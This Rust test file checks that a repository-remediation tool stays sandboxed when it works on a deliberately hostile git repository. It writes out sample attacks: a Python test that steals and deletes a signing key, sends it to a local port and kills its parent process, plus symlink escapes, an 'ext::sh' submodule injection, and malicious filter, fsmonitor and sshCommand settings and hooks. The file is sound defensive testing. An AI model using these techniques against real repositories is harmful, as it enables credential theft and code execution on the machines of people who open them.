//! A repository that wants out: the remediation ends, and nothing outside of its sandbox is read, told or changed.

use std::fs;
use std::net::TcpListener;
use std::os::unix::ffi::OsStrExt;
use std::os::unix::fs::{PermissionsExt, symlink};
use std::path::{Path, PathBuf};

use serde_json::{Value, json};

use crate::shop::{Shop, about, ask};
use crate::support::json_of;

/// The arguments of the process that wants to outlive its test.
const MARK: &str = "backtrail-hostile-straggler";

/// Tests that do harm where they can, and say what they got: one passes, one fails once a setting is put back.
fn tests(key: &Path, outside: &Path, port: u16) -> String {
    format!(
        r#"import os
import socket
import subprocess
import sys

from payments import bank

KEY, OUTSIDE, PORT = {key:?}, {outside:?}, {port}
LOOT = []


def harm(work):
    try:
        LOOT.append(str(work()))
    except Exception as error:
        LOOT.append(type(error).__name__)


def test_harm():
    harm(lambda: open(KEY).read())
    harm(lambda: open(os.path.join(OUTSIDE, "note")).read())
    harm(lambda: open(os.path.join(OUTSIDE, "stolen"), "w").write(LOOT[0]))
    harm(lambda: open(os.path.join(OUTSIDE, "note"), "a").write("x"))
    harm(lambda: os.remove(KEY))
    harm(lambda: socket.create_connection(("127.0.0.1", PORT), 2).sendall(LOOT[0].encode()))
    harm(lambda: os.kill(os.getppid(), 9) if os.getppid() != 1 else None)
    command = [sys.executable, "-c", "import time; time.sleep(900)", "{MARK}"]
    harm(lambda: subprocess.Popen(command, start_new_session=True))
    if os.fork() == 0:
        os.setsid()
        os.execv(sys.executable, command)


def test_says_what_it_got():
    test_harm()
    assert bank.settings("config.json")["max_retries"] != 1, LOOT
"#,
        key = key.display().to_string(),
        outside = outside.display().to_string(),
    )
}

/// Everything of a folder: paths, kinds, bytes.
fn picture(dir: &Path) -> Vec<(PathBuf, u32, Vec<u8>)> {
    let mut all = Vec::new();
    for entry in fs::read_dir(dir).expect("readable").flatten() {
        let path = entry.path();
        let mode = fs::symlink_metadata(&path).expect("there").permissions().mode();
        let bytes = if path.is_file() { fs::read(&path).expect("readable") } else { Vec::new() };
        if path.is_dir() {
            all.extend(picture(&path));
        }
        all.push((path, mode, bytes));
    }
    all.sort();
    all
}

/// Processes whose command line holds the mark.
fn stragglers() -> Vec<String> {
    let processes = fs::read_dir("/proc").expect("there").flatten();
    let lines = processes.filter_map(|entry| fs::read(entry.path().join("cmdline")).ok());
    let lines = lines.map(|line| String::from_utf8_lossy(&line).into_owned());
    lines.filter(|line| line.contains(MARK)).collect()
}

/// What a repository can hold against whoever reads it.
fn arm(shop: &Shop, outside: &Path) {
    let touch = format!("touch {}", outside.join("run").display());
    symlink(outside, shop.dir().join("payments/out")).expect("a link");
    symlink(outside.join("note"), shop.dir().join("payments/settings.json")).expect("a link");
    symlink("../../outside/note", shop.dir().join("tests/conftest.py")).expect("a link");
    shop.write(".gitattributes", "* filter=evil diff=evil merge=evil\n");
    shop.write(
        ".gitmodules",
        "[submodule \"x\"]\n\tpath = sub\n\turl = ext::sh -c touch% owned\n\tupdate = !touch owned\n",
    );
    shop.write("payments/huge.py", vec![b'#'; 24 << 20]);
    let name = std::ffi::OsStr::from_bytes(b"payments/caf\xe9.py");
    fs::write(shop.dir().join(name), "x = 1\n").expect("writable");
    for hook in ["post-checkout", "pre-commit-x", "reference-transaction-x", "post-index-change"] {
        let path = shop.dir().join(".git/hooks").join(hook);
        fs::create_dir_all(path.parent().expect("a folder")).expect("writable");
        fs::write(&path, format!("#!/bin/sh\n{touch}\n")).expect("writable");
    }
}

/// Switched on once the commits are made: what the owner of the repository runs is not what is tested here.
fn load(shop: &Shop, outside: &Path) {
    let touch = format!("touch {}", outside.join("run").display());
    for name in [
        "filter.evil.smudge",
        "filter.evil.clean",
        "diff.evil.command",
        "diff.evil.textconv",
        "merge.evil.driver",
        "core.fsmonitor",
        "uploadpack.packObjectsHook",
        "core.sshCommand",
    ] {
        shop.git(&["config", name, &touch]);
    }
    for hook in fs::read_dir(shop.dir().join(".git/hooks")).expect("there").flatten() {
        fs::set_permissions(hook.path(), PermissionsExt::from_mode(0o755)).expect("its owner");
    }
}

#[test]
fn a_hostile_repository_is_worked_on_without_harm() {
    let Some(()) = backtrail_testkit::python::pytest().or_skip() else { return };
    let place = tempfile::tempdir().expect("a directory");
    let dir = place.path();
    let outside = dir.join("outside");
    fs::create_dir(&outside).expect("writable");
    fs::write(outside.join("note"), "{\"max_retries\": 77}\n").expect("writable");
    let listener = TcpListener::bind("127.0.0.1:0").expect("a free port");
    listener.set_nonblocking(true).expect("a socket");
    let port = listener.local_addr().expect("bound").port();
    // Once, so that the key is there before anything hostile is.
    json_of(dir, &["run", "--once", "--json"]);
    let data = dir.join("backtrail-data/consumer");
    let key = data.join("signing.key");
    let secret = fs::read(&key).expect("a key");

    let shop = Shop::new(&dir.join("shop"));
    arm(&shop, &outside);
    shop.write("tests/test_harm.py", tests(&key, &outside, port));
    let first = shop.commit("First version");
    shop.git(&["update-index", "--add", "--cacheinfo", &format!("160000,{first},sub")]);
    shop.git(&["commit", "-q", "-m", "A submodule"]);
    shop.raise_retries();
    shop.git(&["add", "payments/config.json"]);
    shop.git(&["commit", "-q", "-m", "Ask the bank more often"]);
    let commit = shop.git(&["rev-parse", "HEAD"]);
    load(&shop, &outside);
    shop.own(dir);
    let before = picture(&outside);
    ask(dir, &[about("i", &commit, "find the defect")]);
    let done = json_of(dir, &["run", "--once", "--json", "--max-age", "any", "--test-time", "2m"]);
    assert_eq!(done["failed"], 0, "hostile is no failure of ours");

    let status = json_of(dir, &["status", "--json"]);
    let id = status["remediations"][0]["id"].as_str().expect("an id");
    let shown = json_of(dir, &["show", id, "--json"]);
    assert_eq!(shown["remediation"]["state"], "refused", "{:#}", shown["journal"]);
    let refused = &shown["remediation"]["candidates"][0];
    let why = refused["why"].to_string();
    assert!(refused["by"] == "tests" && why.contains("test_says_what_it_got"), "the hostile tests ran: {refused:#}");

    assert_eq!(picture(&outside), before, "nothing outside is changed");
    assert_eq!(fs::read(&key).expect("still there"), secret);
    let connected = listener.accept();
    assert!(connected.is_err_and(|error| error.kind() == std::io::ErrorKind::WouldBlock), "nobody called");
    assert_eq!(stragglers(), Vec::<String>::new());
    for (path, _, bytes) in picture(&data) {
        let holds = |part: &[u8]| bytes.windows(part.len()).any(|window| window == part);
        assert!(path == key || !holds(secret_line(&secret)), "the key is in {}", path.display());
        assert!(!holds(b"77}\\n"), "a file outside was read: {}", path.display());
    }
    what_was_read(&shown);
}

/// The line of the key that is the secret.
fn secret_line(pem: &[u8]) -> &[u8] {
    pem.split(|byte| *byte == b'\n').find(|line| line.len() > 20 && !line.starts_with(b"-")).expect("a key in PEM form")
}

/// The links, the huge file and the name that is no text are passed over, and said to be.
fn what_was_read(shown: &Value) {
    let journal = shown["journal"].as_array().expect("a journal");
    let read = journal.iter().find(|entry| entry["step"]["is"] == "context_ready").expect("read");
    let skipped = read["step"]["context"]["skipped"].as_array().expect("a list");
    for part in ["payments/settings.json: it is no plain file", "payments/huge.py: it is too large"] {
        assert!(skipped.contains(&json!(part)), "{part} is missing in {skipped:?}");
    }
}
